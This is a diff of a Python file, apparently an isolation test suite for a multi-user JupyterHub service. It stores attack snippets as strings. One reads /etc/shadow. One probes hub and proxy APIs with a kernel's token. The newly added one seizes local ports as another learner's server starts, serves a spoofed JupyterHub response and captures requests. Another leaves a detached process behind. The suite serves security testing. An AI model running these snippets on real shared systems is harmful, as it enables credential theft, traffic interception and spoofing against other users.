@@ -43,7 +43,7 @@ acts += [lambda: open("/etc/shadow").close()]
 print(json.dumps([outcome(act) for act in acts]))
 """
 
-# Asks the hub and its proxy with the token that every kernel is given. Needs port and other.
+# Asks the hub and its proxy with the token of every kernel. Needs other, hub_port and proxy_port.
 TOKEN = """
 import json, os, urllib.error, urllib.request
 def answers(url):
@@ -53,7 +53,7 @@ def answers(url):
         return urllib.request.urlopen(request, timeout=10).status
     except urllib.error.HTTPError as error:
         return error.code
-hub, proxy = f"http://127.0.0.1:{port + 2}/hub/api", f"http://127.0.0.1:{port + 1}/api"
+hub, proxy = f"http://127.0.0.1:{hub_port}/hub/api", f"http://127.0.0.1:{proxy_port}/api"
 urls = [f"{hub}/users/{other}", f"{hub}/users", f"{hub}/proxy", f"{proxy}/routes", f"{hub}/user"]
 print(json.dumps([answers(url) for url in urls]))
 """
@@ -117,4 +117,51 @@ try:
 except (ValueError, OSError):
     lifted = False
 print(json.dumps([greedy is None, lifted]))
+"""
+
+# Takes every free port that it can from the moment when another learner's server begins to start,
+# and answers at each with a page of its own. Needs uid, that learner's number.
+TAKE_ALL = """
+import contextlib, json, os, resource, selectors, socket, threading, time
+def begins(uid, before):
+    for folder in os.scandir("/proc"):
+        with contextlib.suppress(OSError):
+            if folder.name.isdigit() and folder.name not in before and folder.stat().st_uid == uid:
+                return True
+    return False
+def take_all(uid, seconds):
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    before, end, listening = set(os.listdir("/proc")), time.monotonic() + seconds, []
+    while not begins(uid, before) and time.monotonic() < end:
+        time.sleep(0.001)
+    for port in [*range(20000, 32000), *range(1, 1024)]:
+        with contextlib.suppress(OSError):
+            listening.append(socket.create_server(("127.0.0.1", port)))
+    taken.extend(door.getsockname()[1] for door in listening)
+    chosen = selectors.DefaultSelector()
+    for door in listening:
+        chosen.register(door, selectors.EVENT_READ)
+    while time.monotonic() < end:
+        for key, _ in chosen.select(0.2):
+            with contextlib.suppress(OSError):
+                visitor = key.fileobj.accept()[0]
+                visitor.settimeout(1)
+                heard.append(visitor.recv(9999).decode(errors="replace"))
+                body = b"Ann was here: jupyter-config-data"
+                head = b"HTTP/1.1 200 OK\\r\\nX-JupyterHub-Version: 6.1.0\\r\\n"
+                visitor.sendall(head + b"Connection: close\\r\\n\\r\\n" + body)
+                visitor.close()
+    for door in listening:
+        door.close()
+taken, heard = [], []
+attack = threading.Thread(target=take_all, args=(uid, 25), daemon=True)
+attack.start()
+"""
+
+# Starts a process that leaves its session and its group, and prints its number.
+STAY_BEHIND = """
+import json, subprocess
+left = subprocess.Popen(["sleep", "1234"], start_new_session=True)
+print(json.dumps(left.pid))
 """
